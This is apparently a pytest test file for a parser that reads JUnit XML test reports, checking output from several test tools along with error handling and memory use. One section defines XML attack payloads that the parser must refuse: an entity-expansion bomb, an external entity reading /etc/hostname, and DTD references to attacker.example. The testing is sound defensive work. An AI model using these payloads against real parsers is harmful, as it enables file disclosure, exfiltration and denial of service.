"""The parser: what real tools write, what is odd, and what is an attack."""

import re
import tracemalloc
from collections.abc import Iterator
from io import BytesIO
from itertools import repeat
from pathlib import Path

import pytest

from app.services.imports import junit
from app.services.imports.junit import InvalidReport, RawCase, check_root, read_cases
from tests import reports


def read(text: str) -> list[RawCase]:
    return list(read_cases(BytesIO(text.encode())))


def read_report_of(tool: str) -> list[RawCase]:
    with reports.path(tool).open("rb") as file:
        return list(read_cases(file))


class Endless(BytesIO):
    """A file that is made while it is read, so that only the reader needs memory."""

    def __init__(self, blocks: Iterator[bytes]) -> None:
        super().__init__()
        self._blocks = blocks

    def read(self, size: int | None = -1) -> bytes:
        return next(self._blocks, b"")


@pytest.mark.parametrize(
    ("tool", "outcomes"),
    [
        ("pytest", ["passed", "failed", "skipped", "errored", "passed"]),
        ("maven-surefire", ["passed", "passed", "errored", "skipped"]),
        ("gotestsum", ["passed", "failed", "skipped", "passed"]),
        ("go-junit-report", ["passed", "failed", "skipped"]),
        ("jest-junit", ["passed", "failed", "skipped", "passed"]),
        ("phpunit", ["passed", "passed", "failed"]),
        ("googletest", ["passed", "failed", "skipped"]),
    ],
)
def test_report_of_every_tool_is_read(tool: str, outcomes: list[str]) -> None:
    cases = read_report_of(tool)

    assert [case["outcome"] for case in cases] == outcomes
    assert [case["position"] for case in cases] == list(range(1, len(cases) + 1))
    assert all(case["name"] and case["classname"] for case in cases)


def test_every_report_in_the_folder_is_read() -> None:
    files = sorted(Path(reports.FOLDER).glob("*.xml"))

    assert len(files) == 7
    assert all(read_report_of(file.stem) for file in files)


def test_failure_has_its_message_and_details() -> None:
    failed = read_report_of("pytest")[1]

    assert failed["name"] == "test_discount[half-<50%>]"
    assert failed["message"].startswith("AssertionError: assert 50 == 51\n")
    assert failed["details"].endswith("tests/test_cart.py:17: AssertionError")


def test_message_falls_back_to_the_type_of_the_error() -> None:
    errored = read_report_of("maven-surefire")[2]

    assert errored["message"] == "java.lang.NullPointerException"
    assert "at com.example.Ledger.book(Ledger.java:12)" in errored["details"]


def test_case_that_passed_after_a_failed_run_is_flaky() -> None:
    cases = read_report_of("maven-surefire")

    assert [case["flaky"] for case in cases] == [False, True, False, False]


def test_names_of_nested_suites_are_joined() -> None:
    assert read_report_of("phpunit")[2]["suite"] == (
        r"/src/phpunit.xml / unit / Tests\CartTest / Tests\CartTest::testDiscount"
    )
    assert read_report_of("gotestsum")[3]["suite"] == "example.com/shop/mail"


def test_repeated_names_are_cases_of_their_own() -> None:
    cases = read_report_of("jest-junit")

    assert cases[0]["name"] == cases[3]["name"]
    assert cases[0]["position"] != cases[3]["position"]


def test_first_of_several_failures_is_kept() -> None:
    failed = read_report_of("googletest")[1]

    assert failed["message"].startswith("cart_test.cc:14")
    assert "second problem" not in failed["details"]


def test_error_outweighs_a_failure_of_the_same_case() -> None:
    [case] = read(
        "<testsuite><testcase name='a'><failure message='first'/>"
        "<error message='teardown'>trace</error><skipped/></testcase></testsuite>"
    )

    assert (case["outcome"], case["message"]) == ("errored", "teardown")
    assert case["details"] == "trace"


def test_missing_attributes_are_left_empty() -> None:
    [case] = read("<testsuites><testsuite><testcase/></testsuite></testsuites>")

    assert (case["name"], case["classname"], case["suite"]) == ("", "", "")
    assert (case["time"], case["outcome"]) == (None, "passed")


def test_time_is_kept_as_it_is_written() -> None:
    assert read_report_of("maven-surefire")[0]["time"] == "1,234.567"


@pytest.mark.parametrize("root", ["testsuite", "testsuites"])
def test_report_without_cases_is_empty_not_wrong(root: str) -> None:
    assert read(f"<{root}/>") == []


def test_namespaces_are_ignored() -> None:
    assert len(read('<testsuite xmlns="urn:x"><testcase name="a"/></testsuite>')) == 1


def test_encoding_of_the_declaration_is_honoured() -> None:
    text = (
        '<?xml version="1.0" encoding="{}"?><testsuite><testcase name="é"/></testsuite>'
    )

    for encoding in ("utf-8", "utf-16", "iso-8859-1", "windows-1252"):
        [case] = read_cases(BytesIO(text.format(encoding).encode(encoding)))
        assert case["name"] == "é"


def test_elements_named_like_outcomes_count_only_directly_in_a_case() -> None:
    [case] = read(
        "<testsuite><failure/><testcase name='a'><properties><error/></properties>"
        "</testcase></testsuite>"
    )

    assert case["outcome"] == "passed"


def test_output_is_not_kept_and_long_texts_are_cut() -> None:
    [case] = read(
        f"<testsuite><testcase name='{'n' * 5000}'><system-out>{'o' * 99_999}"
        f"</system-out><failure message='{'m' * 5000}'>{'d' * 99_999}</failure>"
        "</testcase></testsuite>"
    )

    assert len(case["name"]) == junit.MAX_NAME_CHARACTERS
    assert len(case["message"]) == junit.MAX_MESSAGE_CHARACTERS
    assert case["details"] == "d" * junit.MAX_DETAILS_CHARACTERS


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<testsuite><testcase name="&lol3;"/></testsuite>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/hostname">]>
<testsuite><testcase name="a"><failure>&secret;</failure></testcase></testsuite>"""

EXTERNAL_DOCUMENT_TYPE = """<?xml version="1.0"?>
<!DOCTYPE testsuite SYSTEM "http://attacker.example/x.dtd">
<testsuite><testcase name="a"/></testsuite>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % out SYSTEM "http://attacker.example/x.dtd"> %out;]>
<testsuite/>"""

ATTACKS = [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DOCUMENT_TYPE, PARAMETER_ENTITY]


@pytest.mark.parametrize("attack", ATTACKS)
def test_document_types_and_entities_are_refused(attack: str) -> None:
    with pytest.raises(InvalidReport, match="a document type or an entity is declared"):
        read(attack)
    with pytest.raises(InvalidReport, match="a document type or an entity is declared"):
        check_root(BytesIO(attack.encode()))


def test_nesting_without_end_is_refused() -> None:
    with pytest.raises(InvalidReport, match="nested more than 100 deep"):
        read("<testsuite>" * 1_000_000)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "the file is empty; expected a JUnit XML report"),
        ("   \n", "the XML ends too early"),
        ("<html><body/></html>", "root element is <html>, expected <testsuites> or"),
        (
            "<testcase name='a'/>",
            "root element is <testcase>, expected <testsuites> or",
        ),
        ("PK\x03\x04zip", "not well-formed XML: .* line 1, column"),
        ("name,outcome\na,passed\n", "not well-formed XML: .* line 1, column 0"),
        ("<testsuite><testcase></testsuite>", "not well-formed XML: mismatched tag"),
        ("<testsuite>&nbsp;</testsuite>", "not well-formed XML: undefined entity"),
        ("<testsuite><testcase name='a'/>", "the XML ends too early: no element found"),
        ("<?xml version='1.0' encoding='klingon'?><testsuite/>", "unknown encoding"),
        ("<?xml version='1.0' encoding='shift_jis'?><testsuite/>", "encoding"),
    ],
)
def test_file_that_is_no_report_is_refused_with_the_reason(
    text: str, message: str
) -> None:
    with pytest.raises(InvalidReport, match=message):
        read(text)


def test_cases_before_the_end_of_a_truncated_report_are_read() -> None:
    cases = read_cases(BytesIO(b"<testsuite><testcase name='a'/><testcase na"))

    assert next(cases)["name"] == "a"
    with pytest.raises(InvalidReport, match="the XML ends too early"):
        next(cases)


def test_root_is_checked_without_reading_on() -> None:
    file = BytesIO(b"<testsuite>" + b" " * 10 * junit.BLOCK_BYTES + b"<broken")

    check_root(file)

    assert file.tell() == junit.BLOCK_BYTES


@pytest.mark.parametrize(
    "unit",
    [
        # many cases; much output of one case; much text of one failure
        b"<testcase name='a' time='0.1'><failure message='m'>text</failure></testcase>",
        b"<system-out>%s</system-out>" % (b"output " * 100),
        b"text of a failure that does not end",
    ],
)
def test_memory_does_not_grow_with_the_file(unit: bytes) -> None:
    def peak(megabytes: int) -> int:
        block = unit * (junit.BLOCK_BYTES // len(unit))
        head = b"<testsuite>"
        if b"testcase" not in unit:
            head += b"<testcase name='a'>"
        if b"<" not in unit:
            head += b"<failure>"
        file = Endless(iter([head, *repeat(block, megabytes * 16)]))
        tracemalloc.start()
        try:
            for _ in read_cases(file):
                pass
        except InvalidReport as error:
            assert re.search("ends too early", str(error))
        finally:
            highest = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
        return highest

    small, large = peak(megabytes=1), peak(megabytes=8)

    assert large < small + 200_000
